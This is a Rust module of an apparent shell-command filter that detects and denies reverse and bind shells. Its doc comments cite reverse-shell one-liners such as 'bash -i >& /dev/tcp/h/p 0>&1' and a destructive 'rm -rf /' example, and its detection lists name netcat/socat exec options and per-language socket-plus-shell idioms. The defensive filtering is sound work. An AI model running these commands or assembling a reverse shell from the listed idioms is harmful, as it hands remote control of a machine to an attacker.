//! `remote_code`: reverse and bind shells (SPEC §15.19) — a network
//! connection handed to a program or a shell.
//!
//! - `nc`/`ncat`/`netcat` with an option that runs a program on the
//!   connection (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, in any
//!   spelling the program model reads: clusters, abbreviations, glued);
//! - `socat` with an `EXEC:`/`SYSTEM:`/`SHELL:` address (any case, either
//!   side of a `!!` pair);
//! - a call that opens a network connection (`/dev/tcp/…`, `/dev/udp/…`
//!   redirects, `nc`, `telnet`, `socat`, `openssl s_client`) and has a shell
//!   or interpreter that reads its program from standard input (not from a
//!   heredoc or a file): `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p;
//!   cat <&5 | bash`, `mkfifo f; sh -i < f | nc h p > f`, `telnet h p | sh`;
//! - as an extra net, static inline code of python/perl/ruby/php/node/lua
//!   that opens a socket and runs a shell on it, and gawk's `/inet/` files.

use super::words::XArg;
use super::{deny, Cmd, Denial};
use shellgate_programs::{lookup, parse, Arg, Role};
use shellgate_shell::analyze::{Analysis, Invocation};
use shellgate_shell::syntax::{RedirKind, RedirTarget};

const RC: &str = "remote_code";

/// Interpreter families, by basename (versions stripped).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Lang {
    Shell,
    Python,
    Perl,
    Ruby,
    Php,
    Node,
    Lua,
}

pub(super) fn lang(base: &str) -> Option<Lang> {
    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "yash" | "posh" | "fish"
        | "csh" | "tcsh" | "rbash" | "ksh93" => Lang::Shell,
        "python" | "pypy" | "python-" => Lang::Python,
        "perl" => Lang::Perl,
        "ruby" | "jruby" => Lang::Ruby,
        "php" | "php-cli" => Lang::Php,
        "node" | "nodejs" => Lang::Node,
        "lua" | "luajit" => Lang::Lua,
        _ => return None,
    })
}

const STDIN_NAMES: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];

/// A shell or interpreter that takes its program from standard input.
pub(super) fn program_from_stdin(l: Lang, args: &[XArg]) -> bool {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let Some(t) = a.value.as_deref() else {
            return false;
        };
        if matches!(
            t,
            "--version" | "--help" | "-V" | "-h" | "-v" | "-version" | "-help"
        ) && l != Lang::Shell
        {
            return false;
        }
        if STDIN_NAMES.contains(&t) {
            return true;
        }
        if t == "--" {
            return args
                .get(i + 1)
                .is_none_or(|a| STDIN_NAMES.contains(&a.text()));
        }
        if let Some(long) = t.strip_prefix("--") {
            if matches!(l, Lang::Node) && matches!(long.split('=').next(), Some("eval" | "print")) {
                return false;
            }
            if matches!(long, "rcfile" | "init-file") {
                i += 1;
            }
            if long == "help" || long == "version" {
                return false;
            }
            i += 1;
            continue;
        }
        if (t.starts_with('-') || (l == Lang::Shell && t.starts_with('+'))) && t.len() > 1 {
            let flags = &t[1..];
            let code = match l {
                Lang::Shell => 'c',
                Lang::Python => 'c',
                Lang::Perl | Lang::Ruby | Lang::Lua => 'e',
                Lang::Php => 'r',
                Lang::Node => 'e',
            };
            if flags.contains(code)
                || (l == Lang::Perl && flags.contains('E'))
                || (l == Lang::Node && flags.contains('p'))
                || (l == Lang::Python && flags.contains('m'))
            {
                return false;
            }
            if l == Lang::Shell && flags.contains('s') {
                return true;
            }
            let takes_value = match l {
                Lang::Shell => matches!(t, "-o" | "+o" | "-O" | "+O"),
                Lang::Python => matches!(t, "-W" | "-X" | "-Q"),
                Lang::Perl => matches!(t, "-I" | "-M" | "-m" | "-x"),
                Lang::Ruby => matches!(t, "-I" | "-r" | "-C" | "-E"),
                Lang::Php => matches!(t, "-c" | "-d" | "-z" | "-f" | "-B" | "-R" | "-F" | "-E"),
                Lang::Node => matches!(t, "-r" | "--require" | "--import" | "-C"),
                Lang::Lua => matches!(t, "-l"),
            };
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        // A program file.
        return false;
    }
    true
}

fn net_path(p: &str) -> bool {
    p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/")
}

/// Programs that open a connection and pass its bytes through stdio.
const CONNECTORS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "telnet",
    "socat",
    "cryptcat",
    "pwncat",
    "sbd",
    "ztcp",
];

fn opens_connection(inv: &Invocation, argv: &[XArg]) -> bool {
    let redirect_net = inv.redirects.iter().any(|r| match &r.target {
        RedirTarget::File(w) => {
            w.lit().is_some_and(|v| net_path(&v))
                || w.static_prefix("").0.starts_with("/dev/tcp")
                || w.static_prefix("").0.starts_with("/dev/udp")
        }
        _ => false,
    });
    if redirect_net {
        return true;
    }
    let Some((prog, args)) = argv.split_first() else {
        return false;
    };
    let base = prog
        .value
        .as_deref()
        .map(super::program_base)
        .unwrap_or_default();
    CONNECTORS.contains(&base.as_str())
        || (base == "openssl"
            && args
                .first()
                .is_some_and(|a| matches!(a.text(), "s_client" | "s_server")))
        || args.iter().any(|a| net_path(a.text()))
}

/// A stdin reader whose input is not a heredoc, a here-string or a file.
fn network_fed_reader(inv: &Invocation, argv: &[XArg], fifos: bool) -> bool {
    let Some((prog, args)) = argv.split_first() else {
        return false;
    };
    let Some(p) = prog.value.as_deref() else {
        return false;
    };
    let Some(l) = lang(&super::program_base(p)) else {
        return false;
    };
    if !program_from_stdin(l, args) {
        return false;
    }
    let fd0 = |op: &str| {
        let digits: String = op.chars().take_while(char::is_ascii_digit).collect();
        digits.is_empty() || digits == "0"
    };
    let fed_otherwise = inv.redirects.iter().any(|r| match (&r.kind, &r.target) {
        (RedirKind::HereDoc | RedirKind::HereString, _) => fd0(&r.op),
        (RedirKind::Read, RedirTarget::File(w)) => {
            // A file read is not a connection, unless the call makes
            // named pipes (`mkfifo f; sh < f | nc h p > f`).
            fd0(&r.op) && !fifos && !w.lit().is_some_and(|v| net_path(&v))
        }
        _ => false,
    });
    !fed_otherwise
}

/// Call-wide: a connection and a shell reading its program from stdin.
/// `expanded`: each invocation's words as the program receives them (in
/// the order of `a.invocations`).
pub(super) fn call_wide(a: &Analysis, expanded: &[Vec<XArg>]) -> Option<Denial> {
    let mut conn = false;
    let mut reader = false;
    let mut dyn_program = false;
    let mut reads_lines = false;
    // Files a connection writes (`nc h p > f`): a reader of one of them is
    // fed by the connection (a named pipe made earlier).
    let conn_outputs: Vec<String> = a
        .invocations
        .iter()
        .filter(|inv| CONNECTORS.contains(&inv.base().as_str()))
        .flat_map(|inv| inv.redirects.iter())
        .filter(|r| r.kind.writes())
        .filter_map(|r| r.file().and_then(|w| w.literal()))
        .collect();
    let fed_by_connection = a.invocations.iter().any(|inv| {
        inv.redirects.iter().any(|r| {
            r.kind == RedirKind::Read
                && r.file()
                    .and_then(|w| w.literal())
                    .is_some_and(|f| conn_outputs.contains(&f))
        })
    });
    let fifos = fed_by_connection
        || a.invocations.iter().any(|inv| {
            let b = inv.base();
            b == "mkfifo"
                || (b == "mknod" && inv.argv.iter().any(|w| w.lit().as_deref() == Some("p")))
        });
    for (inv, argv) in a.invocations.iter().zip(expanded) {
        conn |= opens_connection(inv, argv);
        reader |= network_fed_reader(inv, argv, fifos);
        match argv.first().and_then(|p| p.value.as_deref()) {
            None if !argv.is_empty() => dyn_program = true,
            Some("read") => reads_lines = true,
            _ => {}
        }
    }
    if conn && (reader || (dyn_program && reads_lines)) {
        return deny(
            RC,
            "a network connection feeds a shell or interpreter its commands (a reverse shell)",
        );
    }
    None
}

pub(super) fn check(c: &Cmd) -> Option<Denial> {
    let base = c.base.as_str();
    if let Some(prog) = lookup(base).filter(|p| p.id == "nc") {
        let args: Vec<Arg> = c.args.iter().map(XArg::arg).collect();
        let p = parse(prog, &args);
        if let Some(u) = p
            .opts
            .iter()
            .find(|u| !u.negated && matches!(u.opt.value, Role::Exec | Role::Command))
        {
            return deny(
                RC,
                format!(
                    "{base} {} hands the connection to a program (a reverse or bind shell)",
                    u.opt.name
                ),
            );
        }
        return None;
    }
    if base == "socat" {
        for a in &c.args {
            let Some(t) = a.value.as_deref() else {
                continue;
            };
            for side in t.split("!!") {
                let lower = side.trim_start().to_ascii_lowercase();
                let runs = ["exec", "system", "shell"].iter().any(|k| {
                    lower
                        .strip_prefix(k)
                        .is_some_and(|rest| rest.is_empty() || rest.starts_with([':', ',']))
                });
                if runs {
                    return deny(
                        RC,
                        format!("socat runs a program on a connection (`{}`)", a.raw),
                    );
                }
            }
        }
        return None;
    }
    if matches!(base, "awk" | "gawk") {
        let text: String = c.args.iter().map(XArg::text).collect::<Vec<_>>().join(" ");
        let inet = text.contains("/inet/") || text.contains("/inet4/") || text.contains("/inet6/");
        if inet && text.contains("|&") {
            return deny(RC, "gawk talks to a network socket and runs what it reads");
        }
        return None;
    }
    if let Some(l) = lang(base) {
        if l == Lang::Shell {
            return None;
        }
        let code: String = c
            .args
            .iter()
            .filter_map(|a| a.value.as_deref())
            .collect::<Vec<_>>()
            .join(" ")
            .to_ascii_lowercase();
        if inline_reverse_shell(l, &code) {
            return deny(
                RC,
                format!("{base} code opens a socket and runs a shell on it"),
            );
        }
    }
    None
}

fn any(s: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| s.contains(n))
}

/// Well-known reverse-shell idioms in static inline code.
fn inline_reverse_shell(l: Lang, code: &str) -> bool {
    if any(code, &["/dev/tcp/", "/dev/udp/"]) && any(code, &["sh", "exec", "system"]) {
        return true;
    }
    // A shell-out whose command is itself a reverse shell.
    let shells_out = any(
        code,
        &[
            "exec",
            "system",
            "spawn",
            "popen",
            "child_process",
            "`",
            "passthru",
        ],
    );
    let reverse_cmd = any(
        code,
        &[
            "nc -e",
            "nc -c",
            "ncat -e",
            "ncat -c",
            "ncat --exec",
            "ncat --sh-exec",
            "netcat -e",
            "netcat -c",
            "nc.traditional -e",
        ],
    ) || (code.contains("socat") && any(code, &["exec:", "system:"]));
    if shells_out && reverse_cmd {
        return true;
    }
    match l {
        Lang::Python => {
            code.contains("socket")
                && code.contains("connect")
                && any(
                    code,
                    &[
                        "dup2",
                        "pty.spawn",
                        "subprocess",
                        "os.system",
                        "popen",
                        "exec(",
                    ],
                )
        }
        Lang::Perl => {
            any(code, &["socket(", "io::socket"])
                && any(code, &["exec", "system", "open(stdin", "open(stdout", "qx"])
        }
        Lang::Ruby => {
            any(
                code,
                &["tcpsocket", "socket.new", "udpsocket", "socket.tcp"],
            ) && any(code, &["exec", "spawn", "system", "popen", "`", "syscall"])
        }
        Lang::Php => {
            any(
                code,
                &[
                    "fsockopen",
                    "stream_socket_client",
                    "socket_create",
                    "pfsockopen",
                ],
            ) && any(
                code,
                &["exec", "system", "passthru", "popen", "proc_open", "`"],
            )
        }
        Lang::Node => {
            any(
                code,
                &[
                    "net.socket",
                    "net.connect",
                    "require('net')",
                    "require(\"net\")",
                    "createconnection",
                    "from 'net'",
                    "node:net",
                ],
            ) && any(code, &["child_process", "spawn", "exec"])
        }
        // A connection, not the module's name (`lua -l socket -e
        // 'os.execute("rm -rf /")'` is a delete, rt22 F7).
        Lang::Lua => {
            any(
                code,
                &["socket.connect", "socket.tcp", ":connect(", "socket.udp"],
            ) && any(code, &["os.execute", "io.popen"])
        }
        Lang::Shell => false,
    }
}
